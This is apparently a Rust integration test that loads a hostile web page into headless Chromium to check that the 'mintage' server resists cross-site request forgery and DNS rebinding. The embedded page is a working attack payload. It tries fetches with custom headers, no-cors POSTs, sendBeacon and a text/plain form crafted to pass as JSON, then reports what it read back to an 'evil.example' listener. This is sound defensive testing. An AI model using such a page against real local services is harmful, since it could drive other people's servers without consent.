//! A page in a browser that tries to drive the server of whoever looks at it. Chromium is a real one.

use std::net::{TcpListener, TcpStream};
use std::sync::mpsc::{Sender, channel};
use std::time::Duration;

use super::*;

/// What a page of somebody else tries, one after the other; then it says so, and what it could read.
const PAGE: &str = r#"<!doctype html><title>evil</title><iframe name="frame"></iframe>
<form method="post" action="SERVER/_mintage/homes" target="frame" enctype="text/plain"><input name='{"a":"' value='"}'></form>
<script>
const json = { 'Mintage-Control': '1', 'Content-Type': 'application/json' };
const read = [];
async function attempt(path, how) {
    try {
        const answer = await fetch('SERVER' + path, how);
        read.push(path + ' ' + answer.type + ' ' + answer.status);
    } catch (error) { read.push(path + ' ' + error.name); }
}
(async () => {
    await attempt('/jwks');
    await attempt('/_mintage/homes', { method: 'POST', headers: json, body: '{}' });
    await attempt('/_mintage/homes', { method: 'POST', headers: json, body: '{}', credentials: 'include' });
    await attempt('/_mintage/homes', { method: 'POST', mode: 'no-cors', headers: { 'Mintage-Control': '1' }, body: '{}' });
    await attempt('/_mintage/homes', { method: 'POST', mode: 'no-cors', body: '{}' });
    await attempt('/_mintage', { headers: { 'Mintage-Control': '1' } });
    await attempt('/_mintage', { mode: 'no-cors' });
    navigator.sendBeacon('SERVER/_mintage/homes', new Blob(['{}'], { type: 'text/plain' }));
    document.forms[0].submit();
    await new Promise((resolve) => setTimeout(resolve, 300));
    await fetch('/told', { method: 'POST', body: read.join('\n') });
})();
</script>"#;

/// Gives the page to whoever asks, and hands on what it tells.
fn evil(listener: &TcpListener, page: &str, told: &Sender<String>) {
    for mut stream in listener.incoming().map_while(Result::ok) {
        let (head, body) = request(&mut stream);
        let answer = if head.starts_with("POST /told") {
            drop(told.send(body));
            String::new()
        } else if head.starts_with("GET / ") {
            page.to_owned()
        } else {
            String::new()
        };
        let head = format!(
            "HTTP/1.1 200 OK\r\ncontent-type: text/html\r\nconnection: close\r\ncontent-length: {}\r\n\r\n",
            answer.len()
        );
        drop(stream.write_all((head + &answer).as_bytes()));
    }
}

fn request(stream: &mut TcpStream) -> (String, String) {
    let mut reader = BufReader::new(stream);
    let (mut head, mut length) = (String::new(), 0);
    loop {
        let mut line = String::new();
        if reader.read_line(&mut line).unwrap_or(0) == 0 || line == "\r\n" {
            break;
        }
        if let Some(said) = line.to_ascii_lowercase().strip_prefix("content-length:") {
            length = said.trim().parse().unwrap_or(0);
        }
        head.push_str(&line);
    }
    let mut body = vec![0; length];
    drop(std::io::Read::read_exact(&mut reader, &mut body));
    (head, String::from_utf8_lossy(&body).into_owned())
}

#[test]
fn a_page_in_a_browser_drives_nothing() {
    if !has("chromium", &["--version"]) {
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let mut server = Command::new(env!("CARGO_BIN_EXE_mintage"));
    server.args(["serve", "--dev", "--json", "--listen", "127.0.0.1:0", "--log", "json"]).env_clear();
    server.current_dir(folder.path()).stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped());
    let served = Served::start_with(server);
    let (tell, told) = channel();
    // By its address, and by a name that its owner made point here.
    let rebound = format!("http://rebound.example:{}", served.address.port());
    for target in [served.url(""), rebound] {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let (page, tell) = (PAGE.replace("SERVER", &target), tell.clone());
        std::thread::spawn(move || evil(&listener, &page, &tell));
        let mut browser = Command::new("chromium");
        browser.args(["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run"]);
        browser.args(["--disable-background-networking", "--disable-component-update", "--disable-sync"]);
        browser.arg(format!("--user-data-dir={}", folder.path().join("profile").display()));
        browser.arg("--host-resolver-rules=MAP *.example 127.0.0.1").arg("--remote-debugging-port=0");
        browser
            .arg(format!("http://evil.example:{port}/"))
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null());
        let mut browser = browser.spawn().expect("chromium");
        let read = told.recv_timeout(Duration::from_mins(2));
        drop(browser.kill());
        drop(browser.wait());
        let read = read.expect("the page tells");
        let lines: Vec<_> = read.lines().collect();
        assert_eq!(lines.len(), 7, "{read}");
        // What everybody may read shows that the page reached the server, where it is called by a name of its own.
        let jwks = if target.contains("rebound") { "/jwks TypeError" } else { "/jwks cors 200" };
        assert_eq!(lines[0], jwks, "{read}");
        assert!(lines[1..].iter().all(|line| line.ends_with("TypeError") || line.ends_with("opaque 0")), "{read}");
    }
    let standing = served.ask("GET", "/_mintage", &[("mintage-control", "1")], "").is(200).json();
    assert_eq!(standing["homes"], 0);
    let log = served.log();
    assert!(
        log.lines().filter(|line| line.contains("/_mintage")).all(|line| !line.contains("\"status\":201")),
        "{log}"
    );
    assert!(log.contains("/_mintage/homes"), "the browser tried: {log}");
}
